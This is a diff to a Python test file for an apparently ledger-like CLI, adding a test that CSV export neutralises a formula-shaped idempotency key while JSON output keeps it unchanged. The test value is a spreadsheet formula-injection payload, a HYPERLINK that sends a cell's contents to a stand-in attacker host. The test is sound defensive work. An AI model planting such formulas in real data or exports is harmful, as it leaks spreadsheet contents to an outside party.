@@ -134,5 +134,21 @@ def test_the_audit_trail_reconciles_with_the_balance(db, capsys, stdin):
     rows = capsys.readouterr().out.splitlines()
     assert rows[0].startswith("id,created_at,kind,amount,balance_after")
     assert [r.split(",")[2:5] for r in rows[1:]] == [
-        ["opening", "4", "4"], ["charge", "-1", "3"], ["topup", "10", "13"],
-    ]  # fmt: skip
+        ["opening", "4", "4"],
+        ["charge", "-1", "3"],
+        ["topup", "10", "13"],
+    ]  # fmt: skip  (a negative amount stays a number)
+
+
+def test_an_idempotency_key_never_becomes_a_formula_in_the_audit_csv(db, capsys, stdin):
+    planted = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
+    stdin(VILLA)
+    decide(db, VILLA, capsys, "--idempotency-key", planted)
+    assert main(["workspace", "entries", "acme", "--db", db, "--csv"]) == 0
+    import csv
+    import io as text_io
+
+    rows = list(csv.DictReader(text_io.StringIO(capsys.readouterr().out)))
+    assert rows[1]["idempotency_key"] == "'" + planted and rows[1]["amount"] == "-1"
+    assert main(["workspace", "entries", "acme", "--db", db]) == 0
+    assert json.loads(capsys.readouterr().out)[1]["idempotency_key"] == planted  # JSON: as is
